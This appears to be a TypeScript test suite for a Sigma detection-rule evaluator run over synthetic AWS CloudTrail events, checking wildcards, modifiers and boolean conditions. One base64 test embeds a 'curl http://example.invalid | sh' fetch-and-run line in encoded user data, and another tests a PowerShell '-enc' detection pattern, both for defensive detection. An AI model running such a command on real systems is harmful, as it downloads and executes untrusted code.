// The Sigma evaluator decides, for one CloudTrail record, whether a rule fires — with Sigma's
// semantics, not JavaScript's: case-insensitive, wildcards, null, arrays, objects as JSON text.
import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import { compileRule, compileRuleSet, parseSigmaRules } from '../../shared/cloudtrail/rules/sigma/index.ts';
import type { CompileOptions, SigmaEvent } from '../../shared/cloudtrail/rules/sigma/index.ts';
import { repoRoot } from '../harness/runner.ts';

/** A one-rule matcher from just the detection block (indented YAML under `detection:`). */
function matcher(detection: string, options?: CompileOptions): (event: SigmaEvent) => boolean {
  const text = `title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n${detection
    .split('\n')
    .map((l) => `  ${l}`)
    .join('\n')}\n`;
  const { rules, problems } = parseSigmaRules(text, 'inline.yml');
  assert.deepEqual(problems, []);
  return compileRule(rules[0]!, options);
}

const stopLogging = {
  eventVersion: '1.09',
  eventSource: 'cloudtrail.amazonaws.com',
  eventName: 'StopLogging',
  awsRegion: 'eu-west-1',
  readOnly: false,
  userIdentity: {
    type: 'AssumedRole',
    arn: 'arn:aws:sts::111122223333:assumed-role/Ops/alice',
    sessionContext: { sessionIssuer: { type: 'Role', userName: 'Ops' }, attributes: { mfaAuthenticated: 'true' } },
  },
  requestParameters: { name: 'org-trail', tags: [{ key: 'env', value: 'Prod' }] },
  responseElements: null,
  resources: [{ ARN: 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/org-trail', type: 'AWS::CloudTrail::Trail' }],
};

describe('selections', () => {
  test('a map is AND: every field must match', () => {
    const rule = matcher('sel:\n  eventSource: cloudtrail.amazonaws.com\n  eventName: StopLogging\ncondition: sel');
    assert.equal(rule(stopLogging), true);
    assert.equal(rule({ ...stopLogging, eventName: 'StartLogging' }), false);
  });

  test('a value list is OR: one listed event name is enough', () => {
    const rule = matcher('sel:\n  eventName: [DeleteTrail, StopLogging]\ncondition: sel');
    assert.equal(rule(stopLogging), true);
    assert.equal(rule({ eventName: 'UpdateTrail' }), false);
  });

  test('a list of maps is OR of ANDs', () => {
    const rule = matcher(
      'sel:\n  - eventSource: iam.amazonaws.com\n    eventName: StopLogging\n  - eventSource: cloudtrail.amazonaws.com\n    eventName: StopLogging\ncondition: sel',
    );
    assert.equal(rule(stopLogging), true);
    assert.equal(rule({ eventSource: 'iam.amazonaws.com', eventName: 'CreateUser' }), false);
  });

  test('dotted fields walk nested objects, and a literal dotted key is tried too', () => {
    const rule = matcher('sel:\n  userIdentity.sessionContext.sessionIssuer.type: Role\ncondition: sel');
    assert.equal(rule(stopLogging), true);
    assert.equal(rule({ userIdentity: { type: 'Root' } }), false);
    assert.equal(rule({ 'userIdentity.sessionContext.sessionIssuer.type': 'Role' }), true);
    assert.equal(rule({ userIdentity: { 'sessionContext.sessionIssuer': { type: 'Role' } } }), true);
  });

  test('an array matches when any element does, including arrays on the way to the field', () => {
    const rule = matcher('sel:\n  requestParameters.tags.value: prod\ncondition: sel');
    assert.equal(rule(stopLogging), true);
    const cidr = matcher(
      'sel:\n  requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0\ncondition: sel',
    );
    const ingress = {
      requestParameters: {
        ipPermissions: {
          items: [
            { ipRanges: { items: [{ cidrIp: '10.0.0.0/8' }] } },
            { ipRanges: { items: [{ cidrIp: '192.0.2.0/24' }, { cidrIp: '0.0.0.0/0' }] } },
          ],
        },
      },
    };
    assert.equal(cidr(ingress), true);
    assert.equal(cidr({ requestParameters: { ipPermissions: { items: [] } } }), false);
  });
});

describe('values', () => {
  test('matching is case-insensitive by default; |cased opts out', () => {
    assert.equal(
      matcher('sel:\n  additionalEventData.MFAUsed: NO\ncondition: sel')({ additionalEventData: { MFAUsed: 'No' } }),
      true,
    );
    const cased = matcher('sel:\n  eventName|cased: stoplogging\ncondition: sel');
    assert.equal(cased(stopLogging), false);
    assert.equal(cased({ eventName: 'stoplogging' }), true);
  });

  test('`*` and `?` are wildcards, and a backslash makes them literal', () => {
    const star = matcher("sel:\n  eventName: 'Stop*ing'\ncondition: sel");
    assert.equal(star(stopLogging), true);
    assert.equal(star({ eventName: 'StopLog' }), false);
    const one = matcher("sel:\n  awsRegion: 'eu-west-?'\ncondition: sel");
    assert.equal(one(stopLogging), true);
    assert.equal(one({ awsRegion: 'eu-west-10' }), false);
    const literal = matcher("sel:\n  userAgent: 'a\\*b\\?'\ncondition: sel");
    assert.equal(literal({ userAgent: 'a*b?' }), true);
    assert.equal(literal({ userAgent: 'axxb?' }), false);
    const backslash = matcher("sel:\n  userAgent: 'C:\\Tools\\\\*'\ncondition: sel");
    assert.equal(backslash({ userAgent: 'C:\\Tools\\x.exe' }), true, 'a backslash before an ordinary character stays');
  });

  test('null means the field is missing or null', () => {
    const rule = matcher('sel:\n  errorCode: null\ncondition: sel');
    assert.equal(rule(stopLogging), true);
    assert.equal(rule({ errorCode: null }), true);
    assert.equal(rule({ errorCode: 'AccessDenied' }), false);
    assert.equal(matcher('sel:\n  responseElements: null\ncondition: sel')(stopLogging), true);
  });

  test("scalars compare as text: 'true' matches JSON true and 22 matches '22'", () => {
    const rule = matcher("sel:\n  responseElements.publiclyAccessible: 'true'\ncondition: sel");
    assert.equal(rule({ responseElements: { publiclyAccessible: true } }), true);
    assert.equal(rule({ responseElements: { publiclyAccessible: false } }), false);
    const port = matcher('sel:\n  requestParameters.fromPort: 22\ncondition: sel');
    assert.equal(port({ requestParameters: { fromPort: 22 } }), true);
    assert.equal(port({ requestParameters: { fromPort: '22' } }), true);
    assert.equal(matcher('sel:\n  readOnly: false\ncondition: sel')(stopLogging), true);
  });

  test('a string modifier on an object matches its JSON text', () => {
    const rule = matcher("sel:\n  requestParameters|contains: 'Suspended'\ncondition: sel");
    assert.equal(rule({ requestParameters: { VersioningConfiguration: { Status: 'Suspended' } } }), true);
    assert.equal(rule({ requestParameters: { VersioningConfiguration: { Status: 'Enabled' } } }), false);
    const all = matcher('sel:\n  requestParameters|contains|all: [\'"s3:GetObject"\', \'"Allow"\']\ncondition: sel');
    const policy = { bucketPolicy: { Statement: [{ Effect: 'Allow', Action: 's3:GetObject' }] } };
    assert.equal(all({ requestParameters: policy }), true);
    assert.equal(
      all({ requestParameters: { bucketPolicy: { Statement: [{ Effect: 'Deny', Action: 's3:GetObject' }] } } }),
      false,
    );
  });
});

describe('modifiers', () => {
  test('contains, startswith, endswith', () => {
    assert.equal(
      matcher('sel:\n  userAgent|contains: terraform\ncondition: sel')({
        userAgent: 'APN/1.0 HashiCorp/1.0 Terraform/1.9',
      }),
      true,
    );
    assert.equal(
      matcher('sel:\n  eventName|startswith: UpdateFunctionConfiguration\ncondition: sel')({
        eventName: 'UpdateFunctionConfiguration20150331v2',
      }),
      true,
    );
    assert.equal(matcher('sel:\n  eventName|startswith: Update\ncondition: sel')({ eventName: 'PutUpdate' }), false);
    assert.equal(matcher('sel:\n  userIdentity.arn|endswith: /alice\ncondition: sel')(stopLogging), true);
    assert.equal(matcher('sel:\n  userIdentity.arn|endswith: /ali\ncondition: sel')(stopLogging), false);
  });

  test("|contains: '*' means any present value", () => {
    const rule = matcher("sel:\n  requestParameters.layers|contains: '*'\ncondition: sel");
    assert.equal(rule({ requestParameters: { layers: ['arn:aws:lambda:eu-west-1:111122223333:layer:x:1'] } }), true);
    assert.equal(rule({ requestParameters: { functionName: 'f' } }), false);
  });

  test('|all turns the value list into AND', () => {
    const rule = matcher('sel:\n  userAgent|contains|all: [aws-cli, botocore]\ncondition: sel');
    assert.equal(rule({ userAgent: 'aws-cli/2.15 Python/3.11 botocore/2.0' }), true);
    assert.equal(rule({ userAgent: 'aws-cli/2.15 Python/3.11' }), false);
  });

  test('|re is case-sensitive, |re|i is not, and m/s change line and dot handling', () => {
    const re = matcher("sel:\n  userAgent|re: '^Boto3/1\\.\\d+'\ncondition: sel");
    assert.equal(re({ userAgent: 'Boto3/1.34 md/Botocore' }), true);
    assert.equal(re({ userAgent: 'boto3/1.34' }), false);
    assert.equal(matcher("sel:\n  userAgent|re|i: '^boto3/'\ncondition: sel")({ userAgent: 'Boto3/1.34' }), true);
    assert.equal(
      matcher("sel:\n  errorMessage|re|m: '^denied$'\ncondition: sel")({ errorMessage: 'x\ndenied\ny' }),
      true,
    );
    assert.equal(
      matcher("sel:\n  errorMessage|re: '^denied$'\ncondition: sel")({ errorMessage: 'x\ndenied\ny' }),
      false,
    );
    assert.equal(matcher("sel:\n  errorMessage|re|s: 'a.b'\ncondition: sel")({ errorMessage: 'a\nb' }), true);
    assert.equal(matcher("sel:\n  errorMessage|re: 'a.b'\ncondition: sel")({ errorMessage: 'a\nb' }), false);
  });

  test('a leading Go/PCRE inline flag (?i) becomes a JavaScript flag', () => {
    assert.equal(matcher("sel:\n  userAgent|re: '(?i)^kali'\ncondition: sel")({ userAgent: 'Kali Linux' }), true);
  });

  test('|cidr matches IPv4 and IPv6 source addresses, and never service names', () => {
    const rule = matcher("sel:\n  sourceIPAddress|cidr: ['10.0.0.0/8', '2001:db8::/32']\ncondition: sel");
    assert.equal(rule({ sourceIPAddress: '10.20.30.40' }), true);
    assert.equal(rule({ sourceIPAddress: '11.0.0.1' }), false);
    assert.equal(rule({ sourceIPAddress: '2001:db8:1::5' }), true);
    assert.equal(rule({ sourceIPAddress: 'ec2.amazonaws.com' }), false);
  });

  test('|exists true and false checks presence, not value: null is present (modifiers appendix v2.1, Generic Modifiers)', () => {
    const has = matcher('sel:\n  errorCode|exists: true\ncondition: sel');
    assert.equal(has({ errorCode: 'AccessDenied' }), true);
    assert.equal(has({ errorCode: null }), true);
    assert.equal(has({ errorCode: '' }), true);
    assert.equal(matcher('sel:\n  errorCode|exists: false\ncondition: sel')({ errorCode: null }), false);
    assert.equal(has(stopLogging), false);
    assert.equal(matcher('sel:\n  errorCode|exists: false\ncondition: sel')(stopLogging), true);
  });

  test('|fieldref compares two fields of the same event', () => {
    const rule = matcher('sel:\n  userIdentity.userName|fieldref: requestParameters.userName\ncondition: sel');
    assert.equal(rule({ userIdentity: { userName: 'Bob' }, requestParameters: { userName: 'bob' } }), true);
    assert.equal(rule({ userIdentity: { userName: 'bob' }, requestParameters: { userName: 'alice' } }), false);
    assert.equal(rule({ userIdentity: { userName: 'bob' } }), false, 'a missing reference never matches');
    const ends = matcher('sel:\n  userIdentity.arn|fieldref|endswith: requestParameters.userName\ncondition: sel');
    assert.equal(
      ends({ userIdentity: { arn: 'arn:aws:iam::1:user/bob' }, requestParameters: { userName: 'bob' } }),
      true,
    );
  });

  test('|gt |gte |lt |lte compare numbers, including numeric text', () => {
    const rule = matcher('sel:\n  requestParameters.toPort|gte: 1024\ncondition: sel');
    assert.equal(rule({ requestParameters: { toPort: 3389 } }), true);
    assert.equal(rule({ requestParameters: { toPort: '65535' } }), true);
    assert.equal(rule({ requestParameters: { toPort: 22 } }), false);
    assert.equal(rule({ requestParameters: { toPort: 'all' } }), false);
    assert.equal(
      matcher('sel:\n  requestParameters.toPort|gt: 22\ncondition: sel')({ requestParameters: { toPort: 22 } }),
      false,
    );
    assert.equal(
      matcher('sel:\n  requestParameters.toPort|lt: 23\ncondition: sel')({ requestParameters: { toPort: 22 } }),
      true,
    );
    assert.equal(
      matcher('sel:\n  requestParameters.toPort|lte: 21\ncondition: sel')({ requestParameters: { toPort: 22 } }),
      false,
    );
  });

  test('|neq matches a present value that differs', () => {
    const rule = matcher('sel:\n  awsRegion|neq: us-east-1\ncondition: sel');
    assert.equal(rule(stopLogging), true);
    assert.equal(rule({ awsRegion: 'US-EAST-1' }), false);
    assert.equal(rule({}), false, 'a missing field is not "different"');
    const none = matcher('sel:\n  awsRegion|neq|all: [us-east-1, eu-west-1]\ncondition: sel');
    assert.equal(none(stopLogging), false);
    assert.equal(none({ awsRegion: 'us-west-2' }), true);
  });

  test('|base64 and |base64offset|contains find an encoded value', () => {
    // "curl" at offsets 0, 1 and 2 inside base64-encoded user data.
    const offset = matcher('sel:\n  requestParameters.userData|base64offset|contains: curl\ncondition: sel');
    for (const prefix of ['', 'x', 'xy', 'xyz']) {
      const userData = Buffer.from(`#!/bin/sh\n${prefix}curl http://example.invalid | sh`).toString('base64');
      assert.equal(offset({ requestParameters: { userData } }), true, `prefix ${JSON.stringify(prefix)}`);
    }
    assert.equal(
      offset({ requestParameters: { userData: Buffer.from('#!/bin/sh\nwget x').toString('base64') } }),
      false,
    );
    const plain = matcher('sel:\n  requestParameters.userData|base64: hello\ncondition: sel');
    assert.equal(plain({ requestParameters: { userData: 'aGVsbG8=' } }), true);
    const wide = matcher('sel:\n  requestParameters.userData|wide|base64: hi\ncondition: sel');
    assert.equal(wide({ requestParameters: { userData: Buffer.from('hi', 'utf16le').toString('base64') } }), true);
    assert.equal(wide({ requestParameters: { userData: Buffer.from('hi').toString('base64') } }), false);
    const be = matcher('sel:\n  requestParameters.userData|utf16be|base64: hi\ncondition: sel');
    assert.equal(be({ requestParameters: { userData: Buffer.from([0, 0x68, 0, 0x69]).toString('base64') } }), true);
    const bom = matcher('sel:\n  requestParameters.userData|utf16|base64: hi\ncondition: sel');
    assert.equal(
      bom({ requestParameters: { userData: Buffer.from([0xff, 0xfe, 0x68, 0, 0x69, 0]).toString('base64') } }),
      true,
    );
  });

  test('|windash accepts - and / (and Unicode dashes) for a flag', () => {
    const rule = matcher("sel:\n  requestParameters.command|windash|contains: ' -enc '\ncondition: sel");
    assert.equal(rule({ requestParameters: { command: 'powershell /enc AAA' } }), true);
    assert.equal(rule({ requestParameters: { command: 'powershell \u2013enc AAA' } }), true);
    assert.equal(rule({ requestParameters: { command: 'powershell enc AAA' } }), false);
  });
});

describe('conditions', () => {
  const sels = 'sel_a:\n  eventName: A\nsel_b:\n  eventName: B\nfilter:\n  awsRegion: r\n';
  test('not binds tighter than and, and tighter than or', () => {
    const rule = matcher(`${sels}condition: sel_a or sel_b and not filter`);
    assert.equal(rule({ eventName: 'A', awsRegion: 'r' }), true, 'or is loosest: sel_a alone is enough');
    assert.equal(rule({ eventName: 'B', awsRegion: 'r' }), false);
    assert.equal(rule({ eventName: 'B', awsRegion: 'q' }), true);
  });

  test('parentheses override precedence', () => {
    const rule = matcher(`${sels}condition: (sel_a or sel_b) and not filter`);
    assert.equal(rule({ eventName: 'A', awsRegion: 'r' }), false);
  });

  test('1 of x* and all of x*', () => {
    const one = matcher(`${sels}condition: 1 of sel_*`);
    assert.equal(one({ eventName: 'B' }), true);
    assert.equal(one({ eventName: 'C' }), false);
    const all = matcher('sel_a:\n  eventName: A\nsel_b:\n  awsRegion: r\ncondition: all of sel_*');
    assert.equal(all({ eventName: 'A', awsRegion: 'r' }), true);
    assert.equal(all({ eventName: 'A' }), false);
  });

  test('them excludes selections whose names start with an underscore', () => {
    const rule = matcher('sel:\n  eventName: A\n_helper:\n  awsRegion: r\ncondition: all of them');
    assert.equal(rule({ eventName: 'A' }), true);
    const one = matcher('sel:\n  eventName: A\n_helper:\n  awsRegion: r\ncondition: 1 of them');
    assert.equal(one({ awsRegion: 'r' }), false);
  });

  test('not 1 of filter* filters out any of the filters', () => {
    const rule = matcher(
      'sel:\n  eventName: A\nfilter_x:\n  awsRegion: r\nfilter_y:\n  userAgent: u\ncondition: sel and not 1 of filter*',
    );
    assert.equal(rule({ eventName: 'A' }), true);
    assert.equal(rule({ eventName: 'A', userAgent: 'u' }), false);
  });

  test('a list of conditions is OR', () => {
    const rule = matcher(`${sels}condition:\n  - sel_a\n  - sel_b`);
    assert.equal(rule({ eventName: 'B' }), true);
    assert.equal(rule({ eventName: 'C' }), false);
  });
});

describe('virtual fields and explanations', () => {
  test('a virtual field is resolved before the event, and its result can be walked into', () => {
    let calls = 0;
    const virtualFields = {
      'tt.openToWorld': (e: SigmaEvent) => {
        calls++;
        return e.eventName === 'AuthorizeSecurityGroupIngress';
      },
      tt: () => ({ actor: { kind: 'human' } }),
    };
    const rule = matcher('sel:\n  tt.openToWorld: true\n  tt.actor.kind: human\ncondition: sel', { virtualFields });
    const event = { eventName: 'AuthorizeSecurityGroupIngress', tt: { openToWorld: false } };
    assert.equal(rule(event), true);
    assert.equal(rule({ eventName: 'RevokeSecurityGroupIngress' }), false);
    rule(event);
    assert.equal(calls, 2, 'cached per event');
  });

  test('matchedSelections names the selections that matched, for "why" in reports', () => {
    const text =
      'title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  sel:\n    eventName: StopLogging\n  filter:\n    awsRegion: us-east-1\n  condition: sel and not filter\n';
    const compiled = compileRule(parseSigmaRules(text, 'x.yml').rules[0]!);
    assert.deepEqual(compiled.matchedSelections(stopLogging), ['sel']);
    assert.equal(compiled.rule.title, 't');
  });
});

describe('rule sets', () => {
  const fixtures = path.join(repoRoot, 'test/fixtures/sigma');
  const files = [
    ...readdirSync(path.join(fixtures, 'lookalikes'))
      .filter((f) => f.endsWith('.yml'))
      .map((f) => path.join(fixtures, 'lookalikes', f)),
    path.join(fixtures, 'sql-probes.yml'),
  ];
  const inline = withRules(
    'sel:\n  eventName|cased: StopLogging\ncondition: sel',
    'sel:\n  eventName: Stop*\ncondition: sel',
    'sel:\n  eventName: StopLogging\ncondition: not sel',
    'a:\n  eventName: [StopLogging, X]\nb:\n  eventName: [x, Y]\ncondition: a and b',
    'a:\n  - eventName: StopLogging\n  - awsRegion: eu-west-1\ncondition: a',
  );
  const rules = [...files.flatMap((f) => parseSigmaRules(readFileSync(f, 'utf8'), f).rules), ...inline];
  const events = [
    ...(JSON.parse(readFileSync(path.join(fixtures, 'events/events.json'), 'utf8')) as SigmaEvent[]),
    { eventName: 'x' },
    { eventName: 'STOPLOGGING', awsRegion: 'eu-west-1' },
    { awsRegion: 'eu-west-1' },
    { eventName: ['StopLogging'] },
  ];

  test('indexing by eventName gives the same answer as testing every rule', () => {
    const set = compileRuleSet(rules);
    const one = rules.map((r) => compileRule(r));
    let hits = 0;
    for (const event of events) {
      const expected = one.filter((m) => m(event)).map((m) => m.rule.title);
      assert.deepEqual(
        set(event).map((m) => m.rule.title),
        expected,
        JSON.stringify(event).slice(0, 120),
      );
      hits += expected.length;
    }
    assert.ok(hits > events.length, 'the rules do match');
  });
});

function withRules(...detections: string[]) {
  return detections.map((detection, i) => {
    const body = detection
      .split('\n')
      .map((l) => `  ${l}`)
      .join('\n');
    const { rules } = parseSigmaRules(`title: inline ${i}\nlogsource: {product: aws}\ndetection:\n${body}\n`, 'x.yml');
    assert.equal(rules.length, 1);
    return rules[0]!;
  });
}

describe('objects as text', () => {
  test('a JSON policy document held as a string inside the object is matched as written', () => {
    const rule = matcher(
      'sel:\n  requestParameters|contains|all:\n    - \'"Effect": "Allow"\'\n    - \'"Action": "iam:*"\'\ncondition: sel',
    );
    const document = JSON.stringify({ Statement: [{ Effect: 'Allow', Action: 'iam:*', Resource: '*' }] }, null, 1);
    assert.equal(rule({ requestParameters: { userName: 'x', policyDocument: document } }), true);
    assert.equal(rule({ requestParameters: { policyDocument: document.replace('Allow', 'Deny') } }), false);
  });
});
